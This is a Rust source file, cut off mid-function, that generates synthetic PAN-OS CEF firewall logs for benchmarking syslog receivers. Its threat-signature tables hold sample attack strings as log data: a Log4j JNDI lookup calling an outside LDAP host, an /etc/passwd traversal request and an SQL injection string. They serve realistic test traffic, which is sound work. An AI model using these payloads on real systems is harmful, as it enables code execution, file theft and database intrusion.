//! Realistic PAN-OS 10.x CEF messages for `cefrelay send` and the benchmark harness.
//!
//! The records follow the PAN-OS 10 CEF custom formats ("Set A" in
//! `reference/panos-formats.md` §2.1) key for key, with the quirks real firewalls put on the wire:
//! unescaped `=` in URL query strings, raw backslashes in `domain\user`, rule names and labels
//! with spaces, values wrapped in literal double quotes, empty values, and the GlobalProtect
//! template that has no severity field.
//!
//! Output is deterministic for a given seed and reference time: a tiny xorshift generator
//! ([`Rng`]) drives every choice, so a benchmark can be re-run on exactly the same bytes.
//!
//! A [`Record`] is built once and keeps its text split around the `externalId` value, so the
//! sender only splices a marker (`PREFIX-<n>`) and a syslog header into pre-built bytes per
//! message. That is what lets `send` push hundreds of thousands of messages per second.

use std::fmt::{self, Write as _};
use std::str::FromStr;

use time::OffsetDateTime;

/// Default seed of `cefrelay send --seed`, so that two runs send the same messages.
pub const DEFAULT_SEED: u64 = 0x5eed_cef0_2026;

/// Records in a [`Pool`]: enough variety for a receiver's caches and branch predictors to see
/// realistic input, small enough (about 1 MiB) to stay in the CPU caches of the sender.
pub const POOL_SIZE: usize = 1024;

/// Syslog facility local4, which PAN-OS syslog profiles commonly use (and `logger -p local4.*`).
const FACILITY_LOCAL4: u8 = 20;

/// xorshift64* (Marsaglia / Vigna): small, fast, and good enough to vary log fields. Not for
/// anything that needs unpredictability.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        // One splitmix64 step spreads seeds like 0, 1, 2 over the whole state; xorshift must not
        // start at zero, so the lowest bit is forced on.
        let mut z = seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        Rng((z ^ (z >> 31)) | 1)
    }

    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// A number in `0..bound` (0 when `bound` is 0), without modulo bias worth mentioning.
    pub fn below(&mut self, bound: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(bound)) >> 64) as u64
    }

    /// A number in `low..=high`.
    pub fn between(&mut self, low: u64, high: u64) -> u64 {
        low + self.below(high.saturating_sub(low).saturating_add(1))
    }

    /// True in `percent` out of 100 calls.
    pub fn percent(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    /// One element of a non-empty slice (the tables below are constants, never empty).
    pub fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len() as u64) as usize]
    }
}

/// The PAN-OS log types (and THREAT subtypes) the generator writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum LogKind {
    Traffic,
    Url,
    Vulnerability,
    Spyware,
    Virus,
    Wildfire,
    System,
    Config,
    GlobalProtect,
    UserId,
    HipMatch,
}

impl LogKind {
    pub const ALL: [LogKind; 11] = [
        LogKind::Traffic,
        LogKind::Url,
        LogKind::Vulnerability,
        LogKind::Spyware,
        LogKind::Virus,
        LogKind::Wildfire,
        LogKind::System,
        LogKind::Config,
        LogKind::GlobalProtect,
        LogKind::UserId,
        LogKind::HipMatch,
    ];

    /// The name used in `--mix`.
    pub fn name(self) -> &'static str {
        match self {
            LogKind::Traffic => "traffic",
            LogKind::Url => "url",
            LogKind::Vulnerability => "vulnerability",
            LogKind::Spyware => "spyware",
            LogKind::Virus => "virus",
            LogKind::Wildfire => "wildfire",
            LogKind::System => "system",
            LogKind::Config => "config",
            LogKind::GlobalProtect => "globalprotect",
            LogKind::UserId => "userid",
            LogKind::HipMatch => "hipmatch",
        }
    }
}

/// How THREAT logs split into subtypes when `--mix` says just `threat`: URL filtering logs are
/// the bulk of THREAT volume on a typical firewall, WildFire submissions the rarest.
const THREAT_SPLIT: [(LogKind, u64); 5] = [
    (LogKind::Url, 40),
    (LogKind::Vulnerability, 25),
    (LogKind::Spyware, 20),
    (LogKind::Virus, 10),
    (LogKind::Wildfire, 5),
];

/// Relative weights of the log kinds, as given to `--mix traffic=70,threat=20,...`.
#[derive(Debug, Clone, PartialEq)]
pub struct Mix {
    /// Weight per kind, in [`LogKind::ALL`] order; at least one is positive.
    weights: [u64; LogKind::ALL.len()],
}

impl Default for Mix {
    /// 70 % TRAFFIC, 20 % THREAT, 5 % SYSTEM, 5 % the other types, roughly what a perimeter
    /// firewall logs.
    fn default() -> Self {
        let mut mix = Mix {
            weights: [0; LogKind::ALL.len()],
        };
        mix.add_threat(20);
        for (kind, weight) in [
            (LogKind::Traffic, 70),
            (LogKind::System, 5),
            (LogKind::Config, 2),
            (LogKind::GlobalProtect, 1),
            (LogKind::UserId, 1),
            (LogKind::HipMatch, 1),
        ] {
            mix.add(kind, weight);
        }
        mix
    }
}

impl FromStr for Mix {
    type Err = String;

    /// `kind=weight` pairs separated by commas; `threat` spreads its weight over the THREAT
    /// subtypes. Weights are relative, they need not add up to 100.
    fn from_str(text: &str) -> Result<Self, String> {
        let mut mix = Mix {
            weights: [0; LogKind::ALL.len()],
        };
        for pair in text.split(',').map(str::trim).filter(|p| !p.is_empty()) {
            let (name, weight) = pair
                .split_once('=')
                .ok_or_else(|| format!("`{pair}` is not kind=weight, e.g. threat=20"))?;
            let weight: u64 = weight
                .trim()
                .parse()
                .ok()
                .filter(|w| *w <= 1_000_000)
                .ok_or_else(|| format!("`{pair}`: the weight must be a whole number"))?;
            let name = name.trim().to_ascii_lowercase();
            if name == "threat" {
                mix.add_threat(weight);
                continue;
            }
            let kind = LogKind::ALL
                .into_iter()
                .find(|k| k.name() == name)
                .ok_or_else(|| {
                    let names: Vec<&str> = LogKind::ALL.iter().map(|k| k.name()).collect();
                    format!(
                        "unknown log kind `{name}`: use threat or one of {}",
                        names.join(", ")
                    )
                })?;
            mix.add(kind, weight);
        }
        if mix.weights.iter().all(|w| *w == 0) {
            return Err("the mix needs at least one positive weight, e.g. threat=100".into());
        }
        Ok(mix)
    }
}

impl Mix {
    /// Weights are kept in hundredths so that `threat=1` still reaches every THREAT subtype.
    fn add(&mut self, kind: LogKind, weight: u64) {
        if let Some(at) = LogKind::ALL.iter().position(|k| *k == kind) {
            self.weights[at] += weight * 100;
        }
    }

    fn add_threat(&mut self, weight: u64) {
        for (kind, share) in THREAT_SPLIT {
            if let Some(at) = LogKind::ALL.iter().position(|k| *k == kind) {
                self.weights[at] += weight * share;
            }
        }
    }

    /// `total` kinds in these proportions (largest remainder, so the counts add up exactly), and
    /// at least one of every kind with a positive weight.
    fn allocate(&self, total: usize) -> Vec<LogKind> {
        let sum: u64 = self.weights.iter().sum();
        let total_u64 = total as u64;
        let mut counts: Vec<(usize, u64, u64)> = self
            .weights
            .iter()
            .enumerate()
            .map(|(at, &w)| {
                let exact = u128::from(w) * u128::from(total_u64);
                let whole = (exact / u128::from(sum)) as u64;
                let remainder = (exact % u128::from(sum)) as u64;
                (at, whole.max(u64::from(w > 0)), remainder)
            })
            .collect();
        let assigned: u64 = counts.iter().map(|c| c.1).sum();
        let shortfall = total_u64.saturating_sub(assigned) as usize;
        counts.sort_by_key(|c| std::cmp::Reverse(c.2));
        for count in counts
            .iter_mut()
            .filter(|c| self.weights[c.0] > 0)
            .take(shortfall)
        {
            count.1 += 1;
        }
        counts.sort_by_key(|c| c.0);
        counts
            .into_iter()
            .flat_map(|(at, n, _)| std::iter::repeat_n(LogKind::ALL[at], n as usize))
            .collect()
    }
}

/// The syslog header in front of each record.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HeaderFormat {
    /// `<PRI>Mmm dd hh:mm:ss HOST CEF:0|...`, as PAN-OS sends "BSD" syslog.
    Rfc3164,
    /// `<PRI>1 2026-01-01T12:00:00.000Z HOST - - - - CEF:0|...`, PAN-OS "IETF" syslog.
    Rfc5424,
}

/// Everything of a syslog header but the PRI, rendered once per time stamp so that each message
/// costs a copy, not a formatting call.
#[derive(Debug, Clone)]
pub struct SyslogHeader {
    format: HeaderFormat,
    hostname: String,
    /// From the `>` after the PRI to the space before the CEF record.
    after_pri: Vec<u8>,
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

fn month_abbreviation(at: OffsetDateTime) -> &'static str {
    MONTHS[usize::from(u8::from(at.month())) - 1]
}

impl SyslogHeader {
    /// A header for `hostname`, stamped with `now` (UTC: the RFC 3164 time stamp carries no zone,
    /// and UTC is what a receiver assumes by default).
    pub fn new(format: HeaderFormat, hostname: &str, now: OffsetDateTime) -> Self {
        let mut header = SyslogHeader {
            format,
            hostname: hostname.to_string(),
            after_pri: Vec::with_capacity(64),
        };
        header.set_time(now);
        header
    }

    /// Stamps the following messages with `now`.
    pub fn set_time(&mut self, now: OffsetDateTime) {
        let now = now.to_offset(time::UtcOffset::UTC);
        let text = match self.format {
            HeaderFormat::Rfc3164 => format!(
                ">{} {:>2} {:02}:{:02}:{:02} {} ",
                month_abbreviation(now),
                now.day(),
                now.hour(),
                now.minute(),
                now.second(),
                self.hostname
            ),
            HeaderFormat::Rfc5424 => format!(
                ">1 {:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z {} - - - - ",
                now.year(),
                u8::from(now.month()),
                now.day(),
                now.hour(),
                now.minute(),
                now.second(),
                now.millisecond(),
                self.hostname
            ),
        };
        self.after_pri.clear();
        self.after_pri.extend_from_slice(text.as_bytes());
    }

    fn len(&self, pri: u8) -> usize {
        1 + decimal_len(u64::from(pri)) + self.after_pri.len()
    }

    fn write(&self, pri: u8, out: &mut Vec<u8>) {
        out.push(b'<');
        write_decimal(u64::from(pri), out);
        out.extend_from_slice(&self.after_pri);
    }
}

/// One generated CEF record, kept in two halves around its `externalId` value.
#[derive(Debug, Clone)]
pub struct Record {
    /// Syslog PRI (facility local4 and a severity that follows the log's own severity).
    pub pri: u8,
    /// From `CEF:0|` up to and including `externalId=`.
    before_id: String,
    /// The rest of the extension after the id (may be empty).
    after_id: String,
}

impl Record {
    /// Bytes of the syslog line [`Record::write_line`] appends, without any framing.
    pub fn line_len(&self, header: &SyslogHeader, marker: &str, n: u64) -> usize {
        header.len(self.pri)
            + self.before_id.len()
            + marker.len()
            + 1
            + decimal_len(n)
            + self.after_id.len()
    }

    /// Appends the whole syslog line (no trailing LF) whose `externalId` is `MARKER-n`.
    pub fn write_line(&self, header: &SyslogHeader, marker: &str, n: u64, out: &mut Vec<u8>) {
        header.write(self.pri, out);
        out.extend_from_slice(self.before_id.as_bytes());
        out.extend_from_slice(marker.as_bytes());
        out.push(b'-');
        write_decimal(n, out);
        out.extend_from_slice(self.after_id.as_bytes());
    }
}

/// A fixed set of varied records that the sender cycles through: message `n` is record
/// `n % POOL_SIZE` with `externalId=MARKER-n`.
#[derive(Debug, Clone)]
pub struct Pool {
    records: Vec<Record>,
}

impl Pool {
    /// [`POOL_SIZE`] records in the proportions of `mix`, shuffled, timed around `now`.
    pub fn new(mix: &Mix, seed: u64, now: OffsetDateTime) -> Pool {
        let mut rng = Rng::new(seed);
        let mut kinds = mix.allocate(POOL_SIZE);
        // Fisher–Yates, so that a short run still sees every kind in about the right share.
        for i in (1..kinds.len()).rev() {
            let j = rng.below(i as u64 + 1) as usize;
            kinds.swap(i, j);
        }
        let records = kinds
            .into_iter()
            .map(|kind| generate(kind, &mut rng, now))
            .collect();
        Pool { records }
    }

    /// The record message `n` is made from.
    pub fn record(&self, n: u64) -> &Record {
        &self.records[(n % self.records.len() as u64) as usize]
    }
}

/// Number of decimal digits of `n`.
fn decimal_len(n: u64) -> usize {
    n.checked_ilog10().map_or(1, |digits| digits as usize + 1)
}

/// Appends `n` in decimal, without the formatting machinery (this runs once per message).
pub fn write_decimal(mut n: u64, out: &mut Vec<u8>) {
    let mut digits = [0u8; 20];
    let mut at = digits.len();
    loop {
        at -= 1;
        digits[at] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    out.extend_from_slice(&digits[at..]);
}

// ---------------------------------------------------------------------------------------------
// Building records
// ---------------------------------------------------------------------------------------------

/// Writes a CEF record in PAN-OS order and remembers where the `externalId` value goes.
struct CefWriter {
    text: String,
    id_at: Option<usize>,
    first_key: bool,
}

impl CefWriter {
    /// The header; `severity` is `None` for the GlobalProtect template, which has no such field.
    fn new(version: &str, class_id: &str, name: &str, severity: Option<&str>) -> Self {
        let mut text = String::with_capacity(1600);
        text.push_str("CEF:0|Palo Alto Networks|PAN-OS|");
        for field in [version, class_id, name].into_iter().chain(severity) {
            text.push_str(field);
            text.push('|');
        }
        CefWriter {
            text,
            id_at: None,
            first_key: true,
        }
    }

    /// ` key=value`, written as PAN-OS does: nothing escaped.
    fn kv(&mut self, key: &str, value: impl fmt::Display) -> &mut Self {
        if !self.first_key {
            self.text.push(' ');
        }
        self.first_key = false;
        // Writing into a String cannot fail.
        let _ = write!(self.text, "{key}={value}");
        self
    }

    /// `externalId=` ($seqno in the templates), where the sender puts the message's marker.
    fn external_id(&mut self) -> &mut Self {
        self.kv("externalId", "");
        self.id_at = Some(self.text.len());
        self
    }

    fn finish(mut self, syslog_severity: u8) -> Record {
        // A template without externalId (GlobalProtect) gets it at the end: every generated
        // message must carry its marker so that receivers can count them exactly.
        let at = match self.id_at {
            Some(at) => at,
            None => {
                self.external_id();
                self.text.len()
            }
        };
        let after_id = self.text.split_off(at);
        Record {
            pri: FACILITY_LOCAL4 * 8 + syslog_severity,
            before_id: self.text,
            after_id,
        }
    }
}

/// One firewall: records in a pool come from a handful of devices, as at a real collector.
#[derive(Clone, Copy)]
struct Device {
    serial: &'static str,
    name: &'static str,
    version: &'static str,
    vsys_name: &'static str,
    /// Panorama device-group levels; zeros for a firewall not managed by Panorama.
    device_groups: [u32; 4],
}

const DEVICES: [Device; 4] = [
    Device {
        serial: "007051000184334",
        name: "PA-VM",
        version: "10.1.8",
        vsys_name: "",
        device_groups: [0, 0, 0, 0],
    },
    Device {
        serial: "013101001305",
        name: "PA-3220-DC1",
        version: "10.2.4-h4",
        vsys_name: "Main",
        device_groups: [11, 12, 0, 0],
    },
    Device {
        serial: "012801096514",
        name: "PA-220",
        version: "10.1.11",
        vsys_name: "",
        device_groups: [0, 0, 0, 0],
    },
    Device {
        serial: "016401002871",
        name: "fw-branch-07",
        version: "10.2.9",
        vsys_name: "Branch Offices",
        device_groups: [14, 0, 0, 0],
    },
];

const RULES: [&str; 9] = [
    "Allow Outbound Web",
    "LAN to WAN",
    "Internal to Internal",
    "LEO to UNTRUST - WEB",
    "allow-o365",
    "DNS Sinkhole",
    "Block Known Bad",
    "intrazone-default",
    "interzone-default",
];

/// Users as PAN-OS reports them: `domain\user` with a raw backslash (never followed by `n`, `r`,
/// `=` or `\`, which a CEF parser would unescape), UPNs, the XFF form, and often nobody.
const USERS: [&str; 10] = [
    "corp\\jdoe",
    "corp\\f0316",
    "CORP\\svc_backup",
    "emea\\mkowalski",
    "jane.smith@corp.example.com",
    "x-fwd-for: 10.10.10.50",
    "",
    "",
    "",
    "",
];

/// Zone pairs and the interfaces they sit on.
const ZONES: [(&str, &str, &str, &str); 5] = [
    ("trust", "untrust", "ethernet1/2", "ethernet1/1"),
    ("LAN", "WAN", "ethernet1/3", "ethernet1/1"),
    ("Inside", "Outside", "ae1.100", "ae2"),
    ("Guest WiFi", "untrust", "ethernet1/5.20", "ethernet1/1"),
    ("trust", "DMZ", "ethernet1/2", "tunnel.1"),
];

const LOG_PROFILES: [&str; 4] = [
    "Sentinel Log Forwarding",
    "default",
    "LFPpan",
    "", // no log-forwarding profile on the rule
];

const URL_CATEGORIES: [&str; 8] = [
    "any",
    "computer-and-internet-info",
    "business-and-economy",
    "search-engines",
    "private-ip-addresses",
    "web-advertisements",
    "social-networking",
    "unknown",
];

/// Well-known destination port, App-ID, protocol.
const SERVICES: [(u64, &str, &str); 12] = [
    (443, "ssl", "tcp"),
    (443, "ms-office365-base", "tcp"),
    (80, "web-browsing", "tcp"),
    (53, "dns", "udp"),
    (53, "dns-base", "udp"),
    (123, "ntp", "udp"),
    (22, "ssh", "tcp"),
    (3389, "ms-rdp", "tcp"),
    (445, "ms-ds-smbv3", "tcp"),
    (389, "ldap", "tcp"),
    (25, "smtp", "tcp"),
    (0, "ping", "icmp"),
];

const USER_AGENTS: [&str; 4] = [
    "\"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\"",
    "\"Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)\"",
    "\"curl/8.4.0\"",
    "\"\"",
];

fn internal_ip(rng: &mut Rng) -> String {
    match rng.below(3) {
        0 => format!(
            "10.{}.{}.{}",
            rng.below(32),
            rng.below(256),
            rng.between(2, 254)
        ),
        1 => format!("192.168.{}.{}", rng.below(16), rng.between(2, 254)),
        _ => format!(
            "172.{}.{}.{}",
            rng.between(16, 31),
            rng.below(256),
            rng.between(2, 254)
        ),
    }
}

fn external_ip(rng: &mut Rng) -> String {
    // Prefixes of large cloud and CDN networks: where most firewall traffic goes.
    const PREFIXES: [&str; 8] = [
        "52.", "13.107.", "20.", "104.16.", "142.250.", "151.101.", "185.199.", "40.126.",
    ];
    let prefix = rng.pick(&PREFIXES);
    let mut ip = prefix.to_string();
    for _ in prefix.matches('.').count()..4 {
        let _ = write!(ip, "{}.", rng.between(1, 254));
    }
    ip.pop();
    ip
}

/// Mostly IPv4, sometimes IPv6 (PAN-OS writes both into `src`/`dst`).
fn session_ips(rng: &mut Rng) -> (String, String) {
    if rng.percent(3) {
        (
            format!("2001:db8:10::{:x}", rng.between(1, 0xfff)),
            format!("2606:4700::{:x}", rng.between(1, 0xffff)),
        )
    } else {
        (internal_ip(rng), external_ip(rng))
    }
}

fn uuid(rng: &mut Rng) -> String {
    let a = rng.next_u64();
    let b = rng.next_u64();
    format!(
        "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0xfff,
        ((b >> 48) & 0x3fff) | 0x8000,
        b & 0xffff_ffff_ffff
    )
}

fn hex_digest(rng: &mut Rng) -> String {
    (0..4).fold(String::with_capacity(64), |mut out, _| {
        let _ = write!(out, "{:016x}", rng.next_u64());
        out
    })
}

/// `MMM dd yyyy HH:mm:ss GMT`, PAN-OS's `$cef-formatted-*` times (always UTC).
fn cef_time(at: OffsetDateTime) -> String {
    let at = at.to_offset(time::UtcOffset::UTC);
    format!(
        "{} {:02} {} {:02}:{:02}:{:02} GMT",
        month_abbreviation(at),
        at.day(),
        at.year(),
        at.hour(),
        at.minute(),
        at.second()
    )
}

/// `YYYY/MM/DD HH:MM:SS`, the plain `$receive_time` of the GlobalProtect template.
fn plain_time(at: OffsetDateTime) -> String {
    let at = at.to_offset(time::UtcOffset::UTC);
    format!(
        "{}/{:02}/{:02} {:02}:{:02}:{:02}",
        at.year(),
        u8::from(at.month()),
        at.day(),
        at.hour(),
        at.minute(),
        at.second()
    )
}

/// Seconds before `now`: logs reach the collector a little after they were generated.
fn earlier(now: OffsetDateTime, rng: &mut Rng, max_seconds: u64) -> OffsetDateTime {
    now - time::Duration::seconds(rng.below(max_seconds + 1) as i64)
}

/// PAN-OS `$number-of-severity` (1 informational … 5 critical) as a syslog severity.
fn syslog_severity(pan_severity: u64) -> u8 {
    match pan_severity {
        5 => 2, // critical
        4 => 3, // error
        3 => 4, // warning
        2 => 5, // notice
        _ => 6, // informational
    }
}

/// Syslog severity "informational", for logs whose template has a fixed severity of 1.
const INFORMATIONAL: u8 = 6;

/// One CEF record of `kind`, with its `externalId` value left for the sender to fill in.
/// Deterministic for a given `rng` state and `now`.
pub fn generate(kind: LogKind, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let device = &rng.pick(&DEVICES);
    match kind {
        LogKind::Traffic => traffic(device, rng, now),
        LogKind::Url
        | LogKind::Vulnerability
        | LogKind::Spyware
        | LogKind::Virus
        | LogKind::Wildfire => threat(kind, device, rng, now),
        LogKind::System => system(device, rng, now),
        LogKind::Config => config(device, rng, now),
        LogKind::GlobalProtect => globalprotect(device, rng, now),
        LogKind::UserId => userid(device, rng, now),
        LogKind::HipMatch => hipmatch(device, rng, now),
    }
}

/// The fields a session (TRAFFIC and THREAT) log starts with, up to the protocol.
struct Session {
    src: String,
    dst: String,
    nat_src: String,
    nat_dst: String,
    rule: &'static str,
    src_user: &'static str,
    dst_user: &'static str,
    app: &'static str,
    zones: (&'static str, &'static str, &'static str, &'static str),
    log_profile: &'static str,
    session_id: u64,
    src_port: u64,
    dst_port: u64,
    nat_src_port: u64,
    proto: &'static str,
}

impl Session {
    fn new(rng: &mut Rng, service: (u64, &'static str, &'static str)) -> Session {
        let (src, dst) = session_ips(rng);
        let (dst_port, app, proto) = service;
        let src_port = if proto == "icmp" {
            0
        } else {
            rng.between(1024, 65535)
        };
        // Outbound IPv4 traffic is source-NATed to the firewall's public address.
        let natted = !src.contains(':') && rng.percent(60);
        Session {
            nat_src: if natted {
                format!("203.0.113.{}", rng.between(1, 30))
            } else {
                "0.0.0.0".into()
            },
            nat_dst: if natted {
                dst.clone()
            } else {
                "0.0.0.0".into()
            },
            nat_src_port: if natted { rng.between(1024, 65535) } else { 0 },
            src,
            dst,
            rule: rng.pick(&RULES),
            src_user: rng.pick(&USERS),
            dst_user: if rng.percent(10) {
                rng.pick(&USERS)
            } else {
                ""
            },
            app,
            zones: rng.pick(&ZONES),
            log_profile: rng.pick(&LOG_PROFILES),
            session_id: rng.between(1000, 4_000_000),
            src_port,
            dst_port,
            proto,
        }
    }

    /// `rt=` … `proto=`: the keys every session template shares, in template order.
    fn write(&self, cef: &mut CefWriter, device: &Device, rt: &str, flags: &str) {
        let (from, to, inbound, outbound) = self.zones;
        let nat_dst_port = if self.nat_src_port == 0 {
            0
        } else {
            self.dst_port
        };
        cef.kv("rt", rt)
            .kv("deviceExternalId", device.serial)
            .kv("src", &self.src)
            .kv("dst", &self.dst)
            .kv("sourceTranslatedAddress", &self.nat_src)
            .kv("destinationTranslatedAddress", &self.nat_dst)
            .kv("cs1Label", "Rule")
            .kv("cs1", self.rule)
            .kv("suser", self.src_user)
            .kv("duser", self.dst_user)
            .kv("app", self.app)
            .kv("cs3Label", "Virtual System")
            .kv("cs3", "vsys1")
            .kv("cs4Label", "Source Zone")
            .kv("cs4", from)
            .kv("cs5Label", "Destination Zone")
            .kv("cs5", to)
            .kv("deviceInboundInterface", inbound)
            .kv("deviceOutboundInterface", outbound)
            .kv("cs6Label", "LogProfile")
            .kv("cs6", self.log_profile)
            .kv("cn1Label", "SessionID")
            .kv("cn1", self.session_id)
            .kv("cnt", 1)
            .kv("spt", self.src_port)
            .kv("dpt", self.dst_port)
            .kv("sourceTranslatedPort", self.nat_src_port)
            .kv("destinationTranslatedPort", nat_dst_port)
            .kv("flexString1Label", "Flags")
            .kv("flexString1", flags)
            .kv("proto", self.proto);
    }
}

/// `PanOSDGl1..4`, `PanOSVsysName`, `dvchost`: the device keys every template carries.
fn write_device(cef: &mut CefWriter, device: &Device) {
    let [l1, l2, l3, l4] = device.device_groups;
    cef.kv("PanOSDGl1", l1)
        .kv("PanOSDGl2", l2)
        .kv("PanOSDGl3", l3)
        .kv("PanOSDGl4", l4)
        .kv("PanOSVsysName", device.vsys_name)
        .kv("dvchost", device.name);
}

fn traffic(device: &Device, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let service = rng.pick(&SERVICES);
    let session = Session::new(rng, service);
    let (subtype, action, reason) = match rng.below(20) {
        0..=15 => (
            "end",
            "allow",
            rng.pick(&[
                "tcp-fin",
                "aged-out",
                "tcp-rst-from-client",
                "tcp-rst-from-server",
            ]),
        ),
        16 => ("start", "allow", "n/a"),
        17 => ("drop", "drop", "policy-deny"),
        18 => ("deny", "deny", "policy-deny"),
        _ => ("deny", "reset-both", "policy-deny"),
    };
    let received = earlier(now, rng, 2);
    let elapsed = if subtype == "end" { rng.below(900) } else { 0 };
    let generated = received - time::Duration::seconds(elapsed as i64);
    let (sent, received_bytes) = (rng.between(60, 90_000), rng.between(0, 2_000_000));
    let (packets_sent, packets_received) = (sent / 900 + 1, received_bytes / 1400 + 1);
    let mut cef = CefWriter::new(device.version, subtype, "TRAFFIC", Some("1"));
    session.write(
        &mut cef,
        device,
        &cef_time(received),
        rng.pick(&[
            "0x400019",
            "0x400053",
            "0x19",
            "0x400000",
            "0x8000000000000000",
        ]),
    );
    cef.kv("act", action)
        .kv("flexNumber1Label", "Total bytes")
        .kv("flexNumber1", sent + received_bytes)
        .kv("in", sent)
        .kv("out", received_bytes)
        .kv("cn2Label", "Packets")
        .kv("cn2", packets_sent + packets_received)
        .kv("PanOSPacketsReceived", packets_received)
        .kv("PanOSPacketsSent", packets_sent)
        .kv("start", cef_time(generated))
        .kv("cn3Label", "Elapsed time in seconds")
        .kv("cn3", elapsed)
        .kv("cs2Label", "URL Category")
        .kv("cs2", rng.pick(&URL_CATEGORIES))
        .external_id()
        .kv("reason", reason);
    write_device(&mut cef, device);
    cef.kv(
        "cat",
        if action == "allow" {
            "from-policy"
        } else {
            "from-application"
        },
    )
    .kv("PanOSActionFlags", "0x0")
    .kv("PanOSSrcUUID", "")
    .kv("PanOSDstUUID", "")
    .kv("PanOSTunnelID", 0)
    .kv("PanOSMonitorTag", "")
    .kv("PanOSParentSessionID", 0)
    .kv("PanOSParentStartTime", "")
    .kv("PanOSTunnelType", "N/A")
    .kv("PanOSSCTPAssocID", 0)
    .kv("PanOSSCTPChunks", 0)
    .kv("PanOSSCTPChunkSent", 0)
    .kv("PanOSSCTPChunksRcv", 0)
    .kv("PanOSRuleUUID", uuid(rng))
    .kv("PanOSHTTP2Con", 0)
    .kv("PanLinkChange", 0)
    .kv("PanPolicyID", "")
    .kv("PanLinkDetail", "")
    .kv("PanSDWANCluster", "")
    .kv("PanSDWANDevice", "")
    .kv("PanSDWANClustype", "")
    .kv("PanSDWANSite", "")
    .kv("PanDynamicUsrgrp", "");
    cef.finish(INFORMATIONAL)
}

/// One threat signature: name with id (the Set A class id), PAN severity, threat category,
/// App-ID service, and `$misc` exactly as PAN-OS writes it (in literal double quotes).
#[derive(Clone, Copy)]
struct Signature {
    threat_id: &'static str,
    severity: u64,
    category: &'static str,
    service: (u64, &'static str, &'static str),
    misc: &'static str,
}

const VULNERABILITIES: [Signature; 5] = [
    Signature {
        threat_id: "Microsoft Windows SMB Remote Code Execution Vulnerability(41964)",
        severity: 5,
        category: "code-execution",
        service: (445, "ms-ds-smbv3", "tcp"),
        misc: "\"\"",
    },
    Signature {
        threat_id: "Apache Log4j Remote Code Execution Vulnerability(91991)",
        severity: 5,
        category: "code-execution",
        service: (8080, "web-browsing", "tcp"),
        misc: "\"api.example.com/login?user=${jndi:ldap://198.51.100.23:1389/a}&next=/\"",
    },
    Signature {
        threat_id: "HTTP Directory Traversal Request Attempt(30844)",
        severity: 3,
        category: "info-leak",
        service: (80, "web-browsing", "tcp"),
        misc: "\"www.example.org/cgi-bin/../../etc/passwd\"",
    },
    Signature {
        threat_id: "LDAP Authentication Via BIND Request Failed(31706)",
        severity: 1,
        category: "brute-force",
        service: (389, "ldap", "tcp"),
        misc: "\"\"",
    },
    Signature {
        threat_id: "HTTP SQL Injection Attempt(38195)",
        severity: 4,
        category: "sql-injection",
        service: (80, "web-browsing", "tcp"),
        misc: "\"shop.example.com/item.php?id=1' OR '1'='1&page=2\"",
    },
];

const SPYWARE: [Signature; 3] = [
    Signature {
        threat_id: "generic:www.virussign.com(327891564)",
        severity: 3,
        category: "dns-malware",
        service: (53, "dns", "udp"),
        misc: "\"www.virussign.com\"",
    },
    Signature {
        threat_id: "Cobalt Strike Beacon Command and Control Traffic Detection(86443)",
        severity: 4,
        category: "command-and-control",
        service: (443, "ssl", "tcp"),
        misc: "\"cdn.update-check.example.net/jquery-3.3.1.min.js\"",
    },
    Signature {
        threat_id: "ZeroAccess.Gen Command and Control Traffic(13235)",
        severity: 5,
        category: "botnet",
        service: (80, "web-browsing", "tcp"),
        misc: "\"\"",
    },
];

const VIRUSES: [Signature; 3] = [
    Signature {
        threat_id: "Virus/Win32.WGeneric.cxbhmf(452157632)",
        severity: 3,
        category: "virus",
        service: (25, "smtp", "tcp"),
        misc: "\"invoice_2024-03.zip\"",
    },
    Signature {
        threat_id: "Virus/Linux.WGeneric.abpfd(419149938)",
        severity: 4,
        category: "virus",
        service: (80, "web-browsing", "tcp"),
        misc: "\"update.sh\"",
    },
    Signature {
        threat_id: "Eicar File Detected(39040)",
        severity: 3,
        category: "virus",
        service: (443, "ssl", "tcp"),
        misc: "\"eicar.com.txt\"",
    },
];

/// URL log `$misc`: host and path with unescaped query strings (`=` inside the value).
const URLS: [&str; 6] = [
    "\"www.bing.com/search?q=palo+alto+cef&form=QBLH&sp=-1\"",
    "\"consent.cmp.oath.com/\"",
    "\"b.scorecardresearch.com/p?c1=2&c2=7241469&ns_ap_sv=2.1\"",
    "\"reports.example.com/ReportServer?OpType=SessionKeepAlive&ControlID=9f1c2a&RSProxy=http://localhost/reportserver\"",
    "\"login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b&response_type=code&scope=openid+profile\"",
    "\"cdn.example.net/assets/app.js?v=3.2.1\"",
];

fn threat(kind: LogKind, device: &Device, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let received = earlier(now, rng, 2);
    let rt = cef_time(received);
    let direction = if rng.percent(85) {
        "client-to-server"
    } else {
        "server-to-client"
    };
    match kind {
        LogKind::Url => {
